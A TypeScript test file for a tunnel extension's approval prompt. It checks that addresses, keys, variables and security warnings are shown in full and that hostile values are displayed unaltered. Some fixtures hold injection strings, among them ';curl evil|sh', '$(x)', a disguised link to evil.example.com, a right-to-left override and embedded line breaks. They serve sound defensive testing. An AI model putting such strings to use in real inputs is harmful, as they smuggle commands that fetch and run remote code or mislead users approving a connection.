/** The question before a tunnel opens: it shows everything that is approved, and hides nothing. */
import assert from "node:assert/strict";
import { approvalQuestion } from "../../../../../extension/model/asking/approval-question.ts";
import { english } from "../../../../../extension/model/translate.ts";
import type { ApprovalFacts } from "../../../../../shared/contract/methods.ts";
import { approvedFacts } from "../../../../support/status.ts";

const question = (more: Partial<ApprovalFacts> = {}): ReturnType<typeof approvalQuestion> => approvalQuestion(approvedFacts(more), english);
const lines = (more: Partial<ApprovalFacts> = {}): string[] => question(more).detail.split("\n");

describe("the question about an entry", () => {
  it("names the file, the role, both addresses and the key with its fingerprint", () => {
    assert.deepEqual(lines(), [
      "File: /srv/app/.vscode/tunnels.json",
      "Role: client, encrypts for local programs",
      "Local address: 127.0.0.1:6579",
      "Remote address: cache.example.com:6479",
      "Key: team, fingerprint aaaa-bbbb",
    ]);
  });

  it("says that others may read the key file", () => {
    assert.deepEqual(lines({ keys: [{ source: "/k", fingerprint: "aaaa-bbbb", shared: true }] }).slice(-2), [
      "Key: /k, fingerprint aaaa-bbbb",
      "⚠ A key file that others may read.",
    ]);
  });

  it("names the tunnel in its title", () => {
    assert.equal(question().title, "Approve the tunnel cache?");
  });

  it("says that the entry has changed since it was approved", () => {
    assert.equal(question({ approvedBefore: true }).title, "The tunnel cache has changed since you approved it. Approve it as it is now?");
  });

  for (const [what, more, line] of [
    ["a server's role", { role: "server" }, "Role: server, decrypts for a local service"],
    ["that other machines can connect", { beyondLoopback: true }, "⚠ OTHER MACHINES CAN CONNECT TO IT."],
    ["the outgoing address", { bind: "192.0.2.1" }, "Outgoing address: 192.0.2.1"],
    ["that forward secrecy is off", { forwardSecrecy: "off" }, "⚠ Forward secrecy is off: whoever gets the key later can read recorded traffic."],
    ["that forward secrecy can be talked out of", { forwardSecrecy: "prefer" }, "Forward secrecy: only if the other end has it on."],
    ["that the service speaks TLS", { tls: true }, "TLS: the service speaks it, and so do the URLs"],
    ["the user", { user: "app" }, "User: app"],
    ["the database", { database: "orders" }, "Database: orders"],
    ["a variable with its value", { env: { DB_HOST: "db" } }, "DB_HOST=db"],
  ] as const) {
    it(`names ${what}`, () => {
      assert.ok(lines(more).includes(line), lines(more).join("\n"));
    });
  }

  it("names every key of a server", () => {
    const keys = [
      { source: "old", fingerprint: "1111" },
      { source: "~/keys/new.key", fingerprint: "2222" },
    ];
    assert.deepEqual(
      lines({ keys }).filter((line) => line.startsWith("Key:")),
      ["Key: old, fingerprint 1111", "Key: ~/keys/new.key, fingerprint 2222"],
    );
  });

  it("names every variable and shortens no value, however long", () => {
    const env = Object.fromEntries(Array.from({ length: 100 }, (_, index) => [`V${index}`, "x".repeat(4_090) + index]));
    const shown = lines({ env });
    for (const [name, value] of Object.entries(env)) assert.ok(shown.includes(`${name}=${value}`));
  });

  it("lists addresses and keys before the variables, which might push them out of sight", () => {
    const shown = lines({ env: { A: "1" }, user: "u" });
    assert.deepEqual(shown.slice(-3), ["", "Variables for terminals and programs:", "A=1"]);
  });

  it("does not let a value add a line of its own", () => {
    const evil = "x\nLocal address: 127.0.0.1:1\r\u2028\u2029\u0085Key: fine";
    const { title, detail } = question({
      name: evil,
      target: evil,
      bind: evil,
      user: evil,
      database: evil,
      env: { [evil]: evil },
      keys: [{ source: evil, fingerprint: evil }],
    });
    assert.equal(detail.split("\n").length, 11);
    assert.doesNotMatch(title + detail.replaceAll("\n", ""), /[\p{Cc}\u2028\u2029]/u);
  });

  it("shows a link's address instead of hiding it, and reverses no text", () => {
    const { detail } = question({ env: { URL: "[safe](https://evil.example.com)" }, target: "\u202eevil" });
    assert.match(detail, /URL=\[safe\]\(https:\/\/evil\.example\.com\)/);
    assert.match(detail, /Remote address: \\u\{202e\}evil/);
  });

  it("shows every value as it is in the file", () => {
    const odd = "[ls](;curl evil|sh) $(x) <b> ![i](j)";
    const shown = lines({
      listen: `/run/${odd}`,
      target: odd,
      bind: odd,
      user: odd,
      database: odd,
      env: { A: odd },
      keys: [{ source: odd, fingerprint: "1" }],
    });
    assert.equal(shown.filter((line) => line.includes(odd)).length, 7, shown.join("\n"));
  });
});
